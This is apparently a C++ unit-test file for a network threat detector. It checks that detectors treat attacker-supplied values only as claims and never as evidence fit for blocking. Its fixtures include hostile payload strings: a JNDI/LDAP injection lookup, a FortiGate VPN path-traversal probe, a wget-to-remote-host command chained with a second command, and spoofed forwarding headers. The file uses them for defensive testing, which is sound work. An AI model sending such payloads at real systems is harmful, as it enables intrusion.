// What holds of every detector: it names itself, it accuses nobody whose address may be forged, and nothing that an
// attacker typed becomes more than a claim.
#include <doctest/doctest.h>

#include <cstdlib>
#include <fstream>

#include "search/verdict.hpp"
#include "tests/understand/findings.hpp"

namespace {

using namespace noroshi;
using namespace noroshi::understand;
using model::Field;
using model::Kind;

// Each of them would be an indicator if it were believed.
constexpr auto kTyped =
    std::array<std::string_view, 8>{"http://9.9.9.9/a.sh",
                                    "http://user@evil.example.com:8080/x?y=${jndi:ldap://9.9.9.9/a}",
                                    "9.9.9.9",
                                    "evil.example.com",
                                    "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
                                    "/remote/fgt_lang?lang=../sslvpn_websession",
                                    "wget http://9.9.9.9/a; crontab -l",
                                    "socks5"};
constexpr auto kExtra = std::string_view{
    R"({"headers":[["X-Forwarded-For","9.9.9.9"],["Forwarded","for=9.9.9.9"],["Host","evil.example.com"],["X-PAN-AUTHCHECK","off"]]})"};

/// Every kind with every field set to what attackers type, often enough for every threshold.
auto observations(model::Transport transport) -> std::vector<understand::test::Seen> {
  auto all = std::vector<understand::test::Seen>{};
  for (auto round = 0; round < 40; ++round) {
    for (auto number = 1; number <= 12; ++number) {
      for (auto const typed : kTyped) {
        auto seen = noroshi::test::observation("8.8.4.4", static_cast<Kind>(number));
        seen.transport = transport;
        seen.destination.port = static_cast<std::uint16_t>(1000 + round);
        for (auto const &info : model::fields()) {
          if (info.type == model::FieldType::number || info.type == model::FieldType::flag)
            seen.set(info.field, std::int64_t{1});
          else
            seen.set(info.field, typed);
        }
        seen.extra = kExtra;
        all.push_back({seen, round % 10 + 1});
      }
    }
  }
  return all;
}

// The known exploits are data; a test program lies elsewhere than the node.
auto const packs_named = ::setenv("NOROSHI_PACKS", NOROSHI_SOURCE_DIR "/packs", 1) == 0;

auto names() { return Registry<Detector>::instance().names(); }

auto in_docs(std::string const &line) -> bool {
  auto stream = std::ifstream{NOROSHI_SOURCE_DIR "/docs/reference/detectors.md"};
  for (auto read = std::string{}; std::getline(stream, read);)
    if (read == line) return true;
  return false;
}

}  // namespace

TEST_CASE("every detector says what it finds and what it needs, as docs/reference/detectors.md does") {
  REQUIRE(packs_named);
  REQUIRE(names().size() >= 8);
  for (auto const &name : names()) {
    auto const about = Registry<Detector>::instance().create(name)->about();
    auto techniques = std::string{};
    for (auto const &[id, title] : about.techniques)
      techniques += fmt::format("{}`attack:{}` {}", techniques.empty() ? "" : ", ", id, title);
    auto const line = fmt::format("| `{}` | {} | {} | {} |", name, techniques, about.what, about.needs);
    CAPTURE(line);
    CHECK(in_docs(line));
  }
}

TEST_CASE("every technique that a detector finds is a reason, with a sentence in every language") {
  auto const sentences = search::Sentences::load(NOROSHI_SOURCE_DIR "/packs/text");
  REQUIRE(sentences);
  for (auto const &name : names()) {
    for (auto const &technique : Registry<Detector>::instance().create(name)->about().techniques) {
      CAPTURE(technique.id);
      auto named = search::NamedHit{};
      named.source = "sensor/home";
      named.hit.indicator = {model::ValueType::ip, "8.8.4.4"};
      named.hit.context.role = model::Role::scanner;
      named.hit.context.evidence = model::Evidence::observed;
      named.hit.context.tags = {"attack:" + std::string{technique.id}};
      auto const judgement = search::judge_source(named.hit.indicator, std::nullopt, std::span{&named, 1});
      REQUIRE(judgement.reasons.size() == 2);  // the role, and the deed
      for (auto const &reason : judgement.reasons)
        for (auto const *language : {"en", "ja"})
          CHECK(sentences->text(language, reason).find(reason.code + " ") == std::string::npos);
    }
  }
}

TEST_CASE("nobody is accused by UDP, whatever a datagram says") {
  for (auto const &name : names()) {
    CAPTURE(name);
    for (auto const &[indicator, context] :
         understand::test::conclude(observations(model::Transport::udp), {}, {name})) {
      CAPTURE(indicator.text);
      CHECK(indicator.text != "8.8.4.4");
      CHECK(context.evidence == model::Evidence::claimed);
      CHECK_FALSE(context.to_ids);
    }
  }
}

TEST_CASE("what an attacker typed is never more than claimed, and never fit for blocking") {
  for (auto const &name : names()) {
    CAPTURE(name);
    for (auto const &[indicator, context] :
         understand::test::conclude(observations(model::Transport::tcp), {}, {name})) {
      CAPTURE(indicator.text);
      auto const is_visitor = indicator == model::Value{model::ValueType::ip, "8.8.4.4"};
      CHECK((context.evidence == model::Evidence::observed) == is_visitor);
      CHECK(context.to_ids == is_visitor);
      CHECK(context.expiry.has_value());
    }
  }
}

TEST_CASE("every detector finds something in all that there is to find, and nothing in a visit that only closes") {
  for (auto const &name : names()) {
    CAPTURE(name);
    CHECK_FALSE(understand::test::conclude(observations(model::Transport::tcp), {}, {name}).empty());
    CHECK(understand::test::conclude(std::vector{noroshi::test::observation("8.8.4.4", Kind::closed)}, {}, {name})
              .empty());
  }
}
